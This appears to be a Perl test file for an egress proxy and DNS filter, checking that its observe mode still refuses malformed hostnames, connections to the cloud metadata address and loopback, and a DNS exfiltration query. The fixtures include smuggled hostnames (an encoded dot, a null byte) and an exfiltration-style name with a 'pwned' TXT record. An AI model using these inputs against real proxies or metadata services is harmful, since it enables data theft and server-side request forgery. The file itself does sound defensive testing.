#!/usr/bin/perl
# 157-observe.t -- adversarial: what observe mode (kapd.policy.observe = true,
# "allow and log what would be denied, to build an allowlist") must still
# refuse.
#
# kap.conf(5): "Malformed names stay denied."  kap-behaviour.md §4: "In
# observe mode the DNS forwarder still filters (only the HTTP proxy is
# affected)" -- sound, because proxied clients never resolve names
# themselves, and forwarding every name would open the DNS exfiltration
# channel (bypass-classes.md #1) exactly while a user is watching.  The
# address deny set protects the sidecar, the host and the metadata
# service, not a domain list, so an unlisted name resolving to the
# metadata address or loopback is still not dialled (bypass #6).

use strict;
use warnings;
use lib 't/lib';
use Test::More;
use Test::Kapd;
use Test::Kapd::FakeDNS;
use Test::Kapd::FakeHTTP;

my $t = Test::Kapd->new;
$t->has_kapd->has_module(qw/http_connect dns/);

system('ip', 'addr', 'add', '169.254.169.254/32', 'dev', 'lo') == 0
    or plan(skip_all => 'cannot add 169.254.169.254 to lo');

my $o = $t->port('origin');
my $origin = Test::Kapd::FakeHTTP->new($t, port => $o, name => 'origin', addr => '127.0.0.2');
my $meta = Test::Kapd::FakeHTTP->new($t, port => $o, name => 'meta', addr => '169.254.169.254');
my $lo = Test::Kapd::FakeHTTP->new($t, port => $o, name => 'lo', addr => '127.0.0.1');
my $up = Test::Kapd::FakeDNS->new($t, port => $t->port('up'), zone => {
    'allowed.example'  => ['A 127.0.0.2'],
    'unlisted.example' => ['A 127.0.0.2'],
    'meta.example'     => ['A 169.254.169.254'],
    'lo.example'       => ['A 127.0.0.1'],
    'secret-6b6579.exfil.example' => ['A 192.0.2.1', 'TXT "pwned"'],
});

$t->write_conf(<<'EOF');
kapd: { load = ["http_connect", "dns"]; module_path = ["%%MODULE_PATH%%"]; log_level = "info";
        policy = { observe = true; }; };
network: {
    allow = ["allowed.example:%%PORT_origin%%", "127.0.0.2:%%PORT_origin%%"];
};
resolver: { upstream = ["127.0.0.1:%%PORT_up%%"]; timeout = 2; };
audit_log: { path = "audit.jsonl"; };
http_connect: { listen = ["127.0.0.1:%%PORT_proxy%%"]; };
dns: { listen = ["127.0.0.1:%%PORT_dns%%"]; rate_limit = 0; };
EOF
$t->run;
my $proxy = $t->port('proxy');

sub ask {
    my ($target) = @_;
    my $s = tcp_connect($proxy) or return 'noconnect';
    my $p = http_parse(http_raw($s, "CONNECT $target HTTP/1.1\r\nHost: $target\r\n\r\n",
                                one => 1, method => 'CONNECT', timeout => 5));
    close $s;
    return $p ? $p->{status} : 'none';
}

# -- what observe mode is for -------------------------------------------------------------
is(ask("unlisted.example:$o"), 200, 'observe: an unlisted name is let through');
ok(scalar $t->wait_audit(sub {
    grep { ($_->{action} // '') eq 'observed' && ($_->{subject} // '') eq 'unlisted.example'
           && length($_->{reason} // '') } @_ }),
   'observe: audited as observed, with the reason it would have been denied');

# -- what it must still refuse --------------------------------------------------------------
for my $n ("github.com%2eevil.example:$o", "evil\x00.example:$o", ".evil.example:$o",
           "evil..example:$o", ('a' x 64) . ".example:$o") {
    (my $shown = $n) =~ s/\x00/\\0/g;
    like(ask($n), qr/^(400|403)$/, "observe: malformed name $shown still refused");
}
for my $n ('meta', 'lo') {
    my $before = $meta->connections + $lo->connections;
    like(ask("$n.example:$o"), qr/^(403|502)$/, "observe: unlisted name -> $n address not dialled");
    is($meta->connections + $lo->connections - $before, 0, "observe: $n origin saw nothing");
}
like(ask("169.254.169.254:$o"), qr/^(403|502)$/, 'observe: metadata literal not dialled');
is($meta->connections + $lo->connections, 0, 'observe: no private origin ever dialled');

# -- DNS still filters ---------------------------------------------------------------------------
{
    my $before = $up->count;
    my $p = dns_query('secret-6b6579.exfil.example', 'TXT', port => $t->port('dns'));
    is($p ? $p->header->rcode : 'TIMEOUT', 'NXDOMAIN', 'observe: DNS still answers NXDOMAIN for an unlisted name');
    $p = dns_query('unlisted.example', 'A', port => $t->port('dns'));
    is($p ? $p->header->rcode : 'TIMEOUT', 'NXDOMAIN', 'observe: ... also for an A query');
    is($up->count('secret-6b6579.exfil.example'), 0,
       'observe: the exfiltration name never reached the upstream');
    $p = dns_query('allowed.example', 'A', port => $t->port('dns'));
    is($p ? $p->header->rcode : 'TIMEOUT', 'NOERROR', 'observe: listed names resolve');
}

is(ask("allowed.example:$o"), 200, 'kapd still serves');
$t->done_testing;
